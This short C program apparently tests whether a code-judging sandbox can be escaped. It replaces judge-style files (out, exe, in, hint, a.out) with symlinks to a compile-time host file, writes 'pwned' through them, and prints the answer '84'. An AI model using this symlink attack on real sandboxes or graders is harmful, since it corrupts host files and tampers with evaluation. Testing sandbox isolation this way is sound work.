/* Plants symlinks in its box pointing at a host file (TARGET, set at compile time), and writes through them. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
  const char *names[] = {"link", "out", "exe", "in", "hint", "a.out"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    unlink(names[i]);
    symlink(TARGET, names[i]);
  }
  FILE *f = fopen("link", "w");
  if (f) {
    fputs("pwned\n", f);
    fclose(f);
  }
  f = fopen(TARGET, "w");
  if (f) {
    fputs("pwned\n", f);
    fclose(f);
  }
  puts("84");
  return 0;
}
